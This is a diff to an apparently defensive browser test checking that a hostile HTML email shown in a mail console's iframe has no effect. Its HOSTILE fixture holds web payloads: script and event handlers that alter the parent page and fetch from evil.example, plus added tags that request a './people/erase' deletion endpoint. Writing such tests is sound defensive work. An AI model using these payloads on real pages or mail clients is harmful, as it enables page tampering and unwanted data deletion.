@@ -16,6 +16,8 @@ SECONDS = 40_000
 HOSTILE = """<title>was here</title><p>Hello, Ada</p>
 <script>parent.document.title = "taken"; fetch("https://evil.example/script")</script>
 <img src="https://evil.example/pixel.png" onerror="parent.document.title = 'taken'">
+<svg onload="parent.document.title = 'taken'"></svg>
+<img src="./people/erase"><video src="./people/erase"></video>
 <link rel="stylesheet" href="https://evil.example/style.css"><style>@import url(https://evil.example/import.css);</style>
 <iframe src="https://evil.example/frame"></iframe><meta http-equiv="refresh" content="0; url=https://evil.example/away">
 <form action="https://evil.example/form" target="_top"><button>Press</button></form>
@@ -40,6 +42,7 @@ PATHS = [
     "/message/settle?id=nobody",
     "/message/cancel?id=audited&channel=mail",
     "/lanes",
+    "/docs?page=webhooks-failing",
     "/send?channel=mail&copy=audited",
     "/failures",
     "/selected",
@@ -116,6 +119,7 @@ def test_a_hostile_mail_does_nothing(stage: Stage, page: Any) -> None:
         route.abort()
 
     page.context.route("https://evil.example/**", intercept)
+    page.context.route("**/people/erase", intercept)  # with the origin of the console
     stage.put(**mail("hostile", html=HOSTILE))
     find(page, "hostile")
     frame = page.frame_locator("iframe")
